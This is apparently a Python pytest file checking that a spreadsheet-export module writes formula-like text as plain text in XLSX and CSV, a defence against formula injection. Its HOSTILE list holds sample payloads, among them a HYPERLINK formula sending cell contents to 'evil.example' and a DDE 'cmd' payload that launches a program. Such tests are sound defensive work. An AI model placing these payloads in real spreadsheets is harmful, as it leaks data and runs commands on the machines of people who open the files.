"""Formula-like text is written as text in XLSX and CSV (formula injection)."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from shkala_runtime.spreadsheets import csv_cell, looks_like_formula, protect_worksheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Отчёт")',
    "+7 (495) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_keeps_formula_like_text_as_text(text):
    wb = Workbook()
    ws = wb.active
    ws.append(["Мероприятие", text, 42, -5.5])
    protect_worksheet(ws)
    buf = io.BytesIO()
    wb.save(buf)
    # what a spreadsheet program reads: the raw sheet XML has no formula element at all
    sheet = zipfile.ZipFile(io.BytesIO(buf.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    cell = back.cell(row=1, column=2)
    assert cell.data_type == "s"
    # a bare CR survives as written (lxml escapes it) or as LF (the stdlib XML writer)
    assert cell.value in (text, text.replace("\r", "\n"))
    assert cell.quotePrefix
    # numbers are untouched
    assert back.cell(row=1, column=3).value == 42
    assert back.cell(row=1, column=4).value == -5.5
    assert back.cell(row=1, column=1).quotePrefix is False


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_prefixes_formula_like_text(text):
    buf = io.StringIO()
    csv.writer(buf, delimiter=";").writerow(
        [csv_cell("обычный текст"), csv_cell(text), csv_cell(3)]
    )
    row = next(csv.reader(io.StringIO(buf.getvalue()), delimiter=";"))
    assert row[0] == "обычный текст"
    assert row[1] == "'" + text
    assert row[2] == "3"


def test_what_counts_as_a_formula():
    assert not looks_like_formula("Апрель 2021")
    assert not looks_like_formula(" =1")  # a leading space is not read as a formula
    assert not looks_like_formula(-1)
    assert all(looks_like_formula(t) for t in HOSTILE)
